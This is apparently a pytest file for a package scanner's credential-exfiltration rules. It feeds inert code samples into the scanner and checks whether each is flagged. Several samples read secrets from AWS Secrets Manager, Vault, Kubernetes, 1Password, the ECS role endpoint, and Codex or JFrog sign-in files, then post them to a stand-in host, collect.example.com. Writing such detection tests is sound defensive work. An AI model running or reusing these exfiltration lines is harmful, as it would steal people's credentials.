"""Rules 64: secrets gathered into a container and sent, secret stores' clients, and more
stores, from a second reading of 2025-2026 write-ups (``benchmarks/scan_writeups.py``'s
second half):

- what goes into a list or a dict (``loot[path] = open(path).read()``,
  ``loot.append(...)``) is in it when it is sent (``json=loot``); before, a store read in a
  loop and collected this way reached the send only for stores whose text the file names
  as a credential anyway;
- the secrets a secret store's client returns (AWS Secrets Manager's ``get_secret_value``,
  Vault's ``read_secret_version``, Kubernetes' ``list_secret_for_all_namespaces``, Google's
  ``access_secret_version``) are credentials;
- 1Password's and Bitwarden's command lines asked for items; the ECS task role's endpoint;
  TLS private keys; JFrog's and RubyGems' stored sign-ins; Gemini's, Codex's and Claude
  Code's stored sign-ins.

Each is held when sent to an address the code names; each read alone, or sent to where the
code is told to send it, is everyday code.
The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import ast

import pytest

from pipgate.proxy.scan.constants import propagate_constants
from tests.support.archives import wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
COLLECT = "https://collect.example.com/x"


def _init(code: str) -> tuple[dict[str, float], bool]:
    return judge(wheel({"demo/__init__.py": code}), WHEEL)


GATHERED = {
    "dict item": "loot = {}\nfor f in STORES:\n    loot[f] = open(os.path.expanduser(f)).read()\n",
    "append": "loot = []\nfor f in STORES:\n    loot.append(open(os.path.expanduser(f)).read())\n",
}


@pytest.mark.parametrize("how", sorted(GATHERED))
def test_stores_gathered_into_a_container_then_sent_are_credential_exfil(how: str) -> None:
    code = (
        "import os, requests\n"
        "STORES = ('~/.cargo/credentials.toml', '~/.config/hub')\n"
        + GATHERED[how]
        + f"requests.post({COLLECT!r}, json=loot)\n"
    )
    rules, held = _init(code)
    assert rules["credential-exfil"] >= 5
    assert held


def test_a_container_of_harmless_files_sent_is_not() -> None:
    code = (
        "import os, requests\n"
        "loot = {}\n"
        "for f in ('README.md', 'CHANGES.md'):\n"
        "    loot[f] = open(f).read()\n"
        f"requests.post({COLLECT!r}, json=loot)\n"
    )
    rules, held = _init(code)
    assert "credential-exfil" not in rules
    assert not held


SECRET_SOURCES = {
    "aws secrets manager": "import boto3\nsm = boto3.client('secretsmanager')\nv = sm.get_secret_value(SecretId='prod/db')['SecretString']\n",
    "vault": "import hvac\nc = hvac.Client()\nv = c.secrets.kv.v2.read_secret_version(path='app')['data']\n",
    "kubernetes": "from kubernetes import client\nv = [s.data for s in client.CoreV1Api().list_secret_for_all_namespaces().items]\n",
    "1password": "import subprocess\nv = subprocess.check_output(['op', 'item', 'get', 'x', '--reveal', '--format', 'json'])\n",
    "ecs task role": "import os, requests\nv = requests.get('http://169.254.170.2' + os.environ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI']).text\n",
    "codex sign-in": "import os\nv = open(os.path.expanduser('~/.codex/auth.json')).read()\n",
    "jfrog": "import os\nv = open(os.path.expanduser('~/.jfrog/jfrog-cli.conf.v6')).read()\n",
}


@pytest.mark.parametrize("source", sorted(SECRET_SOURCES))
def test_a_secret_sent_to_an_address_written_in_is_held(source: str) -> None:
    code = (
        "import requests\n" + SECRET_SOURCES[source] + f"requests.post({COLLECT!r}, data=str(v))\n"
    )
    rules, held = _init(code)
    assert max(rules.get("credential-exfil", 0), rules.get("phone-home", 0)) >= 5
    assert held


def test_a_secret_used_where_it_is_meant_to_be_is_not() -> None:
    code = (
        "import boto3, psycopg2\n"
        "sm = boto3.client('secretsmanager')\n"
        "password = sm.get_secret_value(SecretId='prod/db')['SecretString']\n"
        "conn = psycopg2.connect(host='db.internal', password=password)\n"
    )
    rules, held = _init(code)
    assert "credential-exfil" not in rules
    assert not held


def test_names_decoded_into_a_lookup_table_are_no_payload() -> None:
    # optype's easter egg: a module name XOR-decoded into a table, imported on lookup.
    code = (
        "import importlib\n"
        "_submodules = {'copy': 'copy'}\n"
        "def _x(s, k):\n"
        "    return ''.join(chr(ord(c) ^ ord(k)) for c in s)\n"
        "_submodules[_x('\\x1e\\x1d\\x1c', 'q')] = _x('\\x1e\\x1d\\x1c\\x1b', 'q')\n"
        "def __getattr__(name):\n"
        "    if sub := _submodules.get(name):\n"
        "        return importlib.import_module(f'{__name__}.{sub}')\n"
    )
    rules, held = _init(code)
    assert "decode-exec" not in rules
    assert not held


def test_a_table_looped_over_is_read_as_its_literals_with_their_place() -> None:
    tree = ast.parse("NAMES = ('a.txt', 'b.txt')\nfor n in NAMES:\n    print(open(n).read())\n")
    assert propagate_constants(tree) == 1
    loop = tree.body[1]
    assert isinstance(loop, ast.For) and isinstance(loop.iter, ast.Tuple)
    assert [(e.value, e.lineno) for e in loop.iter.elts] == [("a.txt", 2), ("b.txt", 2)]


def test_a_token_put_into_headers_built_as_a_dict_is_a_sign_in_not_a_send() -> None:
    # black's `diff_shades_gha_helper.py`: the token goes into a headers dict, handed on
    # through `**kwargs`.
    code = (
        "import os, urllib3\n"
        "TOKEN = os.getenv('GITHUB_TOKEN')\n"
        "http = urllib3.PoolManager()\n"
        "def http_get(url, **kwargs):\n"
        "    headers = kwargs.get('headers') or {}\n"
        "    headers['Authorization'] = f'token {TOKEN}'\n"
        "    kwargs['headers'] = headers\n"
        "    return http.request('GET', url, **kwargs)\n"
        "http_get('https://api.github.com/repos/psf/black/pulls')\n"
    )
    rules, held = _init(code)
    assert "secret-exfil" not in rules
    assert not held
